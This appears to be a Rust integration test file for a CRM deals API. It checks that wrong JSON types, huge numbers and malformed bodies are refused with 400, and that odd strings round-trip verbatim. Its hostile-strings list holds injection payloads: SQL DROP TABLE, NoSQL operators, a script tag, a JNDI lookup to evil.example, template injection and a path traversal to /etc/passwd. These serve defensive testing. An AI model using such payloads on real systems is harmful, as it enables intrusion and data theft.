//! Hostile request bodies: every JSON type in every field that takes another, numbers past
//! their ranges, malformed and odd JSON, other content types, and strings that look like
//! injections, keys or control sequences. Refusals are 400 in the view's envelope and write
//! nothing; what is accepted is stored and read back verbatim.

use http::Method;
use integration_tests::{data_ids, id_of, names, TestApi, DEALS};
use serde_json::{json, Value};

#[derive(Debug, Clone, Copy)]
enum Shape {
    Text,
    Number,
    List,
    Object,
}

/// Every writable deal field and the JSON type it takes.
const DEAL_FIELD_SHAPES: &[(&str, Shape)] = &[
    ("name", Shape::Text),
    ("account_id", Shape::Text),
    ("owner_id", Shape::Text),
    ("pipeline_id", Shape::Text),
    ("stage", Shape::Text),
    ("value", Shape::Number),
    ("currency", Shape::Text),
    ("probability", Shape::Number),
    ("forecast_category", Shape::Text),
    ("expected_close_date", Shape::Text),
    ("actual_close_date", Shape::Text),
    ("next_followup_date", Shape::Text),
    ("deal_type", Shape::Text),
    ("deal_source", Shape::Text),
    ("competitors", Shape::List),
    ("loss_reason", Shape::Text),
    ("loss_category", Shape::Text),
    ("closure_notes", Shape::Text),
    ("primary_contact_id", Shape::Text),
    ("contact_ids", Shape::List),
    ("rfp_record_id", Shape::Text),
    ("quote_ids", Shape::List),
    ("proposal_ids", Shape::List),
    ("attachment_refs", Shape::List),
    ("linked_task_ids", Shape::List),
    ("custom_fields", Shape::Object),
    ("tags", Shape::List),
    ("deal_number", Shape::Text),
    ("source", Shape::Text),
    ("source_type", Shape::Text),
];

/// The fields of the documented view.
const DOCUMENTED_FIELD_SHAPES: &[(&str, Shape)] = &[
    ("title", Shape::Text),
    ("value", Shape::Number),
    ("currency", Shape::Text),
    ("stage_id", Shape::Text),
    ("organization_id", Shape::Text),
    ("contact_id", Shape::Text),
    ("assigned_to", Shape::Text),
    ("expected_close_date", Shape::Text),
    ("probability", Shape::Number),
    ("metadata", Shape::Object),
];

/// Values of every JSON type but the field's own (and, for lists, lists of the wrong items).
fn wrong_values(shape: Shape) -> Vec<Value> {
    match shape {
        Shape::Text => vec![
            json!(42),
            json!(1.5),
            json!(-1),
            json!(0),
            json!({}),
            json!({"a": "b"}),
            json!([]),
            json!(["x"]),
            json!(true),
            json!(false),
        ],
        Shape::Number => vec![
            json!("10"),
            json!(""),
            json!("abc"),
            json!("1e3"),
            json!({}),
            json!({"n": 1}),
            json!([]),
            json!([1]),
            json!(true),
            json!(false),
        ],
        Shape::List => vec![
            json!("x"),
            json!(""),
            json!(1),
            json!({}),
            json!({"a": "b"}),
            json!(true),
            json!([1]),
            json!([true]),
            json!([null]),
            json!([{}]),
            json!([[]]),
            json!([""]),
        ],
        Shape::Object => vec![
            json!("x"),
            json!(""),
            json!(1),
            json!([]),
            json!([{}]),
            json!(true),
            json!(false),
        ],
    }
}

/// Creates in `collection` from `base` with `field` set to `value`, and PATCHes `item` with
/// only that: both must be 400 naming `field`.
async fn assert_refused_on_create_and_patch(
    api: &TestApi,
    collection: &str,
    item: &str,
    base: &Value,
    field: &str,
    value: Value,
) {
    let mut create = base.clone();
    create[field] = value.clone();
    api.assert_field_refused(Method::POST, collection, &create, field)
        .await;
    let patch = json!({ field: value });
    api.assert_field_refused(Method::PATCH, item, &patch, field)
        .await;
}

/// The deal the wrong-type tests aim their PATCHes at; returns its id.
async fn target(api: &TestApi) -> String {
    id_of(&api.create(json!({"name": "target"})).await)
}

/// The target is still at version 1 and the only deal: nothing was written.
async fn assert_only_the_untouched_target(api: &TestApi, deal: &str) {
    let unchanged = api.get(&format!("{DEALS}/{deal}")).await;
    assert_eq!(unchanged.body["data"]["version"], 1);
    assert_eq!(data_ids(&api.get(DEALS).await.body), [deal]);
}

#[tokio::test]
async fn wrong_types_in_every_deal_field_are_400() {
    let api = TestApi::new().await;
    let deal = target(&api).await;
    let crm_path = format!("{DEALS}/{deal}");
    for (field, shape) in DEAL_FIELD_SHAPES {
        let mut values = wrong_values(*shape);
        if matches!(
            *field,
            "name"
                | "value"
                | "currency"
                | "pipeline_id"
                | "stage"
                | "deal_number"
                | "source"
                | "source_type"
        ) {
            values.push(Value::Null);
        }
        for value in values {
            let base = json!({"name": "x"});
            assert_refused_on_create_and_patch(&api, DEALS, &crm_path, &base, field, value).await;
        }
    }
    assert_only_the_untouched_target(&api, &deal).await;
}

/// Split from `wrong_types_in_every_deal_field_are_400`.
#[tokio::test]
async fn wrong_types_in_every_documented_field_are_400() {
    let api = TestApi::new().await;
    let deal = target(&api).await;
    let documented_path = format!("/api-v1-deals/{deal}");
    for (field, shape) in DOCUMENTED_FIELD_SHAPES {
        for value in wrong_values(*shape) {
            let (collection, base) = ("/api-v1-deals", json!({"title": "x"}));
            assert_refused_on_create_and_patch(
                &api,
                collection,
                &documented_path,
                &base,
                field,
                value,
            )
            .await;
        }
    }
    assert_only_the_untouched_target(&api, &deal).await;
}

/// Split from `wrong_types_in_every_deal_field_are_400`.
#[tokio::test]
async fn wrong_types_in_stage_moves_are_400() {
    let api = TestApi::new().await;
    let deal = target(&api).await;
    for (field, shape) in [
        ("stage", Shape::Text),
        ("stage_id", Shape::Text),
        ("loss_reason", Shape::Text),
        ("loss_category", Shape::Text),
        ("closure_notes", Shape::Text),
    ] {
        for value in wrong_values(shape) {
            let mut body = json!({"stage": "qualified"});
            if field == "stage_id" {
                body = json!({});
            }
            body[field] = value;
            let uri = format!("{DEALS}/{deal}/stage");
            api.assert_field_refused(Method::PATCH, &uri, &body, field)
                .await;
            // The documented view names the stage by its own name, stage_id.
            let documented_field = if field == "stage" { "stage_id" } else { field };
            let uri = format!("/api-v1-deals/{deal}/stage");
            api.assert_field_refused(Method::PATCH, &uri, &body, documented_field)
                .await;
        }
    }
    assert_only_the_untouched_target(&api, &deal).await;
}

/// Split from `wrong_types_in_records_and_pipelines_are_400`.
#[tokio::test]
async fn wrong_types_in_records_are_400() {
    let api = TestApi::new().await;
    let account = api.account("Target").await;
    let contact = api.contact("Target").await;
    let user = api.user("Target").await;
    let record_fields: [(&str, &str, Value, &[&str]); 3] = [
        (
            "accounts",
            &account,
            json!({"name": "x"}),
            &["id", "name", "status", "domain"],
        ),
        (
            "contacts",
            &contact,
            json!({"first_name": "x"}),
            &["id", "first_name", "last_name", "email", "account_id"],
        ),
        (
            "users",
            &user,
            json!({"full_name": "x"}),
            &["id", "full_name", "email"],
        ),
    ];
    for (kind, id, base, fields) in record_fields {
        let collection = format!("/api/v1/crm/{kind}");
        let item = format!("{collection}/{id}");
        for field in fields {
            for value in wrong_values(Shape::Text) {
                assert_refused_on_create_and_patch(&api, &collection, &item, &base, field, value)
                    .await;
            }
        }
        let record = api.get(&item).await;
        assert_eq!(record.body["data"]["version"], 1, "{item}");
    }
}

/// Split from `wrong_types_in_records_and_pipelines_are_400`.
#[tokio::test]
async fn wrong_types_in_pipelines_and_stages_are_400() {
    let api = TestApi::new().await;
    let pipeline = id_of(&api.create_in("pipelines", json!({"name": "Target"})).await);
    let pipelines = "/api/v1/crm/pipelines";
    let pipeline_path = format!("{pipelines}/{pipeline}");
    let stage_path = format!("{pipeline_path}/stages");
    for value in wrong_values(Shape::Text) {
        let name = json!({"name": value});
        api.assert_field_refused(Method::POST, pipelines, &name, "name")
            .await;
        api.assert_field_refused(Method::PATCH, &pipeline_path, &name, "name")
            .await;
        for field in ["name", "color", "kind"] {
            let mut stage = json!({"name": "s"});
            stage[field] = value.clone();
            api.assert_field_refused(Method::POST, &stage_path, &stage, field)
                .await;
            let body = json!({"name": "p", "stages": [stage]});
            let response = api.send_with(Method::POST, pipelines, Some(&body)).await;
            response.expect_error(
                400,
                "VALIDATION_ERROR",
                "pipeline with a bad stage",
                pipelines,
            );
        }
    }
    for value in wrong_values(Shape::Number) {
        for field in ["probability", "position"] {
            let mut stage = json!({"name": "s"});
            stage[field] = value.clone();
            api.assert_field_refused(Method::POST, &stage_path, &stage, field)
                .await;
        }
    }
    for stages in [
        json!("x"),
        json!(1),
        json!({}),
        json!(true),
        json!([1]),
        json!(["x"]),
        json!([[]]),
        json!([null]),
        json!([]),
    ] {
        let body = json!({"name": "p", "stages": stages});
        let response = api.send_with(Method::POST, pipelines, Some(&body)).await;
        response.expect_error(400, "VALIDATION_ERROR", &body.to_string(), pipelines);
    }
    let listed = api.get(pipelines).await;
    assert_eq!(
        listed.body["data"].as_array().map(Vec::len),
        Some(2),
        "{}",
        listed.body
    );
}

#[tokio::test]
async fn huge_and_out_of_range_numbers_are_400() {
    let api = TestApi::new().await;
    let deal = target(&api).await;
    let path = format!("{DEALS}/{deal}");
    let digits_400 = "9".repeat(400);
    let digits_40 = "1".repeat(40);
    // Raw bodies, since these numbers are not representable once parsed.
    let mut cases: Vec<(Method, &str, String)> = Vec::new();
    for (field, number) in [
        ("value", "1e308"),
        ("value", "-1e308"),
        ("value", "1e16"),
        ("value", "1000000000000001"),
        ("value", "-1"),
        ("value", "-0.0000001"),
        ("value", "1e400"),
        ("value", "-1e400"),
        ("value", digits_400.as_str()),
        ("value", digits_40.as_str()),
        ("value", "18446744073709551616"),
        ("probability", "1e308"),
        ("probability", "100.0000001"),
        ("probability", "-1"),
        ("probability", "1e400"),
        ("probability", digits_400.as_str()),
    ] {
        cases.extend([
            (
                Method::POST,
                DEALS,
                format!(r#"{{"name":"x","{field}":{number}}}"#),
            ),
            (
                Method::PATCH,
                path.as_str(),
                format!(r#"{{"{field}":{number}}}"#),
            ),
            (
                Method::POST,
                "/api-v1-deals",
                format!(r#"{{"title":"x","{field}":{number}}}"#),
            ),
        ]);
    }
    for number in [
        "1e308",
        "-1e308",
        "1e126",
        "1e-200",
        "-1e-131",
        "1e400",
        digits_400.as_str(),
    ] {
        cases.extend([
            (
                Method::POST,
                DEALS,
                format!(r#"{{"name":"x","custom_fields":{{"n":{number}}}}}"#),
            ),
            (
                Method::PATCH,
                path.as_str(),
                format!(r#"{{"custom_fields":{{"a":{{"b":[{number}]}}}}}}"#),
            ),
            (
                Method::POST,
                "/api-v1-deals",
                format!(r#"{{"title":"x","metadata":{{"n":{number}}}}}"#),
            ),
        ]);
    }
    for (uri, body) in [
        (
            "/api/v1/crm/pipelines",
            r#"{"name":"p","stages":[{"name":"s","probability":1e308}]}"#,
        ),
        (
            "/api/v1/crm/pipelines/default/stages",
            r#"{"name":"s","position":99999999999999999999}"#,
        ),
        (
            "/api/v1/crm/pipelines/default/stages",
            r#"{"name":"s","position":1e308}"#,
        ),
        (
            "/api/v1/crm/pipelines/default/stages",
            r#"{"name":"s","probability":1e400}"#,
        ),
    ] {
        cases.push((Method::POST, uri, body.to_owned()));
    }
    for (method, uri, body) in cases {
        let what = format!("{method} {body}");
        let response = api.call(method, uri).raw_json(body).send().await;
        assert_eq!(response.status, 400, "{what}: {}", response.body);
        response.refusal(&what, uri);
    }
    assert_eq!(api.get(&path).await.body["data"]["version"], 1);
}

/// Split from `huge_and_out_of_range_numbers_are_400`.
#[tokio::test]
async fn the_largest_accepted_numbers_are_stored_as_given() {
    let api = TestApi::new().await;
    let max = api
        .create(json!({"name": "max", "value": 1_000_000_000_000_000_u64, "probability": 100, "custom_fields": {"big": 1e124, "small": 1e-100, "neg": -1e124}}))
        .await;
    assert_eq!(max["value"], json!(1_000_000_000_000_000_u64));
    let read = api.get(&format!("{DEALS}/{}", id_of(&max))).await;
    assert_eq!(read.body["data"]["value"], json!(1_000_000_000_000_000_u64));
    assert_eq!(
        read.body["data"]["custom_fields"],
        json!({"big": 1e124, "small": 1e-100, "neg": -1e124})
    );
}

/// Strings that look like injections, keys, markup or control sequences.
fn hostile_strings() -> Vec<String> {
    [
        "'; DROP TABLE deals; --",
        "{\"$ne\":null}",
        "{\"$gt\":\"\"}",
        "<script>alert(1)</script>",
        "TENANT#x#DEAL#y",
        "#",
        "a\u{0}b",
        "\u{0}",
        "c\u{1}d\u{7}e\u{1b}[31mred",
        "\u{1}",
        "line\nbreak\ttab\rreturn\u{b}\u{c}end",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}",
        "../../etc/passwd",
        "%00%2F%23%",
        "\u{202e}rtl\u{200b}zero\u{feff}bom",
        "😀 emoji 𝕏",
        "\\\"quoted\\\"",
        "\u{7f}\u{80}\u{9f}",
        "\u{fffd}\u{fffe}\u{ffff}",
        "attribute_exists(pk) OR 1=1",
        ":v, #n",
        "null",
    ]
    .into_iter()
    .map(String::from)
    .collect()
}

fn percent_encode(text: &str) -> String {
    text.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                char::from(b).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

#[tokio::test]
async fn hostile_strings_are_stored_and_read_back_verbatim() {
    let api = TestApi::new().await;
    let strings = hostile_strings();
    let custom: serde_json::Map<String, Value> = strings
        .iter()
        .enumerate()
        .map(|(i, s)| (s.clone(), json!({"value": s, "list": [s], "index": i})))
        .collect();
    let custom = Value::Object(custom);
    let mut ids = Vec::new();
    for (i, text) in strings.iter().enumerate() {
        let body = json!({
            "name": text, "tags": [text, format!("t{i}")], "custom_fields": custom,
            "forecast_category": text, "loss_reason": text, "competitors": [text],
        });
        let created = api.send_with(Method::POST, DEALS, Some(&body)).await;
        assert_eq!(created.status, 201, "{text:?}: {}", created.body);
        let id = id_of(&created.body["data"]);
        for (what, deal) in [
            ("create", created.body["data"].clone()),
            (
                "get",
                api.get(&format!("{DEALS}/{id}")).await.body["data"].clone(),
            ),
        ] {
            assert_eq!(
                deal["name"].as_str(),
                Some(text.as_str()),
                "{what} {text:?}"
            );
            assert_eq!(
                deal["tags"],
                json!([text, format!("t{i}")]),
                "{what} {text:?}"
            );
            assert_eq!(deal["custom_fields"], custom, "{what} {text:?}");
            assert_eq!(
                deal["forecast_category"].as_str(),
                Some(text.as_str()),
                "{what}"
            );
            assert_eq!(deal["loss_reason"].as_str(), Some(text.as_str()), "{what}");
            assert_eq!(deal["competitors"], json!([text]), "{what}");
        }
        let documented = api.get(&format!("/api-v1-deals/{id}")).await;
        assert_eq!(
            documented.body["data"]["title"].as_str(),
            Some(text.as_str())
        );
        assert_eq!(documented.body["data"]["metadata"], custom);
        // Found by its exact name and tag, and by nothing else.
        for query in [
            format!("name={}", percent_encode(text)),
            format!("tags={}", percent_encode(text)),
            format!("name={}&tags=t{i}", percent_encode(text)),
        ] {
            let uri = format!("{DEALS}?{query}");
            let found = api.get(&uri).await;
            assert_eq!(found.status, 200, "{uri}: {}", found.body);
            assert_eq!(
                data_ids(&found.body),
                std::slice::from_ref(&id),
                "{text:?}: {uri}"
            );
        }
        ids.push(id);
    }
    // A PATCH writes them verbatim too.
    let target = &ids[0];
    for text in &strings {
        let patched = api
            .send_with(
                Method::PATCH,
                &format!("{DEALS}/{target}"),
                Some(&json!({"name": text, "tags": [text]})),
            )
            .await;
        assert_eq!(patched.status, 200, "{text:?}: {}", patched.body);
        let read = api.get(&format!("{DEALS}/{target}")).await;
        assert_eq!(read.body["data"]["name"].as_str(), Some(text.as_str()));
        assert_eq!(read.body["data"]["tags"], json!([text]));
    }
    // Every sort reads them back, each deal once.
    for sort in ["name", "-name", "value", "-updated_at", "created_at"] {
        let uri = format!("{DEALS}?sort={sort}&limit=100");
        let listed = api.get(&uri).await;
        assert_eq!(listed.status, 200, "{uri}: {}", listed.body);
        let mut listed_ids = data_ids(&listed.body);
        listed_ids.sort();
        let mut expected = ids.clone();
        expected.sort();
        assert_eq!(listed_ids, expected, "{uri}");
    }
}

/// Split from `hostile_strings_are_stored_and_read_back_verbatim`.
#[tokio::test]
async fn hostile_strings_in_records_and_pipelines_are_stored_verbatim() {
    let api = TestApi::new().await;
    for text in &hostile_strings() {
        for (collection, field) in [
            ("accounts", "name"),
            ("contacts", "first_name"),
            ("users", "full_name"),
            ("pipelines", "name"),
        ] {
            let mut body = json!({});
            body[field] = json!(text);
            let created = api.create_in(collection, body).await;
            assert_eq!(created[field].as_str(), Some(text.as_str()), "{collection}");
            let uri = format!("/api/v1/crm/{collection}/{}", id_of(&created));
            let read = api.get(&uri).await;
            assert_eq!(
                read.body["data"][field].as_str(),
                Some(text.as_str()),
                "{collection}"
            );
        }
    }
}

/// Split from `empty_and_nested_values_in_custom_fields_round_trip_or_are_refused`.
#[tokio::test]
async fn empty_keys_in_custom_fields_are_400() {
    let api = TestApi::new().await;
    let deal = id_of(&api.create(json!({"name": "target"})).await);
    let path = format!("{DEALS}/{deal}");
    for custom in [
        json!({"": 1}),
        json!({"": ""}),
        json!({"a": {"": 1}}),
        json!({"a": [{"": 1}]}),
        json!({"a": {"b": {"c": {"": 1}}}}),
    ] {
        api.assert_field_refused(
            Method::POST,
            DEALS,
            &json!({"name": "x", "custom_fields": custom}),
            "custom_fields",
        )
        .await;
        api.assert_field_refused(
            Method::PATCH,
            &path,
            &json!({"custom_fields": custom}),
            "custom_fields",
        )
        .await;
        api.assert_field_refused(
            Method::POST,
            "/api-v1-deals",
            &json!({"title": "x", "metadata": custom}),
            "metadata",
        )
        .await;
    }
    assert_eq!(api.get(&path).await.body["data"]["version"], 1);
}

/// Split from `empty_and_nested_values_in_custom_fields_round_trip_or_are_refused`.
#[tokio::test]
async fn empty_and_nested_values_in_custom_fields_round_trip() {
    let api = TestApi::new().await;
    for custom in [
        json!({"s": "", "n": 0, "f": false, "t": true}),
        json!({"list": [], "map": {}, "nested": {"list": [[], {}], "s": ""}}),
        json!({"mixed": [1, "a", true, {"k": "v"}, [2]]}),
        json!({"null": null, "in": {"list": [null]}}),
    ] {
        let created = api
            .send_with(
                Method::POST,
                DEALS,
                Some(&json!({"name": "x", "custom_fields": custom})),
            )
            .await;
        assert_eq!(created.status, 201, "{custom}: {}", created.body);
        let read = api
            .get(&format!("{DEALS}/{}", id_of(&created.body["data"])))
            .await;
        assert_eq!(
            read.body["data"]["custom_fields"], custom,
            "created and read back"
        );
    }
}

/// Every endpoint that reads a JSON body, with a deal, an account and a pipeline to aim at.
async fn write_endpoints(api: &TestApi) -> Vec<(Method, String)> {
    let deal = id_of(&api.create(json!({"name": "target"})).await);
    let account = api.account("Target").await;
    let pipeline = id_of(&api.create_in("pipelines", json!({"name": "Target"})).await);
    vec![
        (Method::POST, DEALS.into()),
        (Method::PATCH, format!("{DEALS}/{deal}")),
        (Method::PATCH, format!("{DEALS}/{deal}/stage")),
        (Method::POST, "/api-v1-deals".into()),
        (Method::PATCH, format!("/api-v1-deals/{deal}")),
        (Method::PATCH, format!("/api-v1-deals/{deal}/stage")),
        (Method::POST, "/api/v1/crm/accounts".into()),
        (Method::PATCH, format!("/api/v1/crm/accounts/{account}")),
        (Method::POST, "/api/v1/crm/contacts".into()),
        (Method::POST, "/api/v1/crm/users".into()),
        (Method::POST, "/api/v1/crm/pipelines".into()),
        (Method::PATCH, format!("/api/v1/crm/pipelines/{pipeline}")),
        (
            Method::POST,
            format!("/api/v1/crm/pipelines/{pipeline}/stages"),
        ),
        (
            Method::PATCH,
            "/api/v1/crm/pipelines/default/stages/lead".into(),
        ),
    ]
}

#[tokio::test]
async fn malformed_json_bodies_are_400() {
    let api = TestApi::new().await;
    let endpoints = write_endpoints(&api).await;
    let deep_objects = format!("{}1{}", r#"{"a":"#.repeat(10_000), "}".repeat(10_000));
    let deep_arrays = format!("{}{}", "[".repeat(10_000), "]".repeat(10_000));
    let deep_custom = format!(
        r#"{{"name":"x","custom_fields":{}1{}}}"#,
        r#"{"a":"#.repeat(10_000),
        "}".repeat(10_000)
    );
    let unclosed = r#"{"a":"#.repeat(10_000);
    let cases: Vec<(&str, Vec<u8>)> = vec![
        ("10,000-deep objects", deep_objects.into_bytes()),
        ("10,000-deep arrays", deep_arrays.into_bytes()),
        ("10,000-deep custom_fields", deep_custom.into_bytes()),
        ("10,000 unclosed objects", unclosed.into_bytes()),
        (
            "invalid UTF-8 in a string",
            b"{\"name\":\"\xff\xfe\"}".to_vec(),
        ),
        (
            "invalid UTF-8 continuation",
            b"{\"name\":\"\xc3\x28\"}".to_vec(),
        ),
        ("overlong UTF-8", b"{\"name\":\"\xc0\xaf\"}".to_vec()),
        (
            "UTF-16 surrogate bytes",
            b"{\"name\":\"\xed\xa0\x80\"}".to_vec(),
        ),
        ("invalid UTF-8 alone", b"\xff\xfe\xfd".to_vec()),
        (
            "UTF-16 body",
            "{\"name\":\"x\"}"
                .encode_utf16()
                .flat_map(u16::to_le_bytes)
                .collect(),
        ),
        ("lone surrogate escape", br#"{"name":"\ud800"}"#.to_vec()),
        ("a JSON string", br#""{\"name\":\"x\"}""#.to_vec()),
        ("a JSON number", b"1".to_vec()),
        ("a huge JSON number", b"1e400".to_vec()),
        ("JSON null", b"null".to_vec()),
        ("JSON true", b"true".to_vec()),
        ("an empty array", b"[]".to_vec()),
        (
            "an array of the object",
            br#"[{"name":"x","title":"x","stage":"qualified"}]"#.to_vec(),
        ),
        ("not JSON", b"nope".to_vec()),
        ("single quotes", b"{'name': 'x'}".to_vec()),
        ("unquoted keys", b"{name: \"x\"}".to_vec()),
        ("unterminated", br#"{"name":"x""#.to_vec()),
        ("trailing comma", br#"{"name":"x",}"#.to_vec()),
        ("trailing garbage", br#"{"name":"x"} {}"#.to_vec()),
        ("NaN", br#"{"value":NaN}"#.to_vec()),
        ("Infinity", br#"{"value":Infinity}"#.to_vec()),
        ("a comment", br#"{"name":"x" /* c */}"#.to_vec()),
        ("a NUL byte", b"{\"name\":\"x\"}\x00".to_vec()),
        (
            "a raw control character in a string",
            b"{\"name\":\"a\x01b\"}".to_vec(),
        ),
    ];
    for (method, uri) in &endpoints {
        for (what, body) in &cases {
            let response = api
                .call(method.clone(), uri)
                .raw_json(body.clone())
                .send()
                .await;
            let what = format!("{method} {what}");
            response.expect_error(400, "INVALID_REQUEST", &what, uri);
        }
    }
    // Nothing was written: the target is as it was, and alone.
    assert_eq!(names(&api.get(DEALS).await.body), ["target"]);
}

/// Split from `malformed_json_bodies_are_400`.
#[tokio::test]
async fn odd_but_harmless_json_bodies_are_never_5xx() {
    let api = TestApi::new().await;
    for (method, uri) in &write_endpoints(&api).await {
        for (what, body) in [
            ("byte order mark", b"\xef\xbb\xbf{\"name\":\"x\"}".to_vec()),
            ("duplicate keys", br#"{"name":"a","name":"b"}"#.to_vec()),
            ("empty", Vec::new()),
            ("blanks", b" \n\t ".to_vec()),
        ] {
            let response = api.call(method.clone(), uri).raw_json(body).send().await;
            response.no_server_error(what, uri);
        }
    }
    // The target (renamed by a duplicate-key PATCH: the last key wins) and one duplicate-key
    // create; nothing else was written.
    let names = names(&api.get(DEALS).await.body);
    assert_eq!(names.len(), 2, "{names:?}");
    assert!(
        names
            .iter()
            .all(|name| ["target", "b"].contains(&name.as_str())),
        "{names:?}"
    );
}

/// Split from `malformed_json_bodies_are_400`.
#[tokio::test]
async fn bodies_of_other_content_types_are_still_read_as_json() {
    let api = TestApi::new().await;
    // Non-JSON content types change nothing: still refused as JSON.
    for content_type in [
        "text/plain",
        "application/x-www-form-urlencoded",
        "application/xml",
    ] {
        let response = api
            .call(Method::POST, DEALS)
            .header("content-type", content_type)
            .raw_body("name=x&value=1")
            .send()
            .await;
        response.expect_error(400, "INVALID_REQUEST", content_type, DEALS);
    }
    assert_eq!(api.get(DEALS).await.body["data"], json!([]));
}
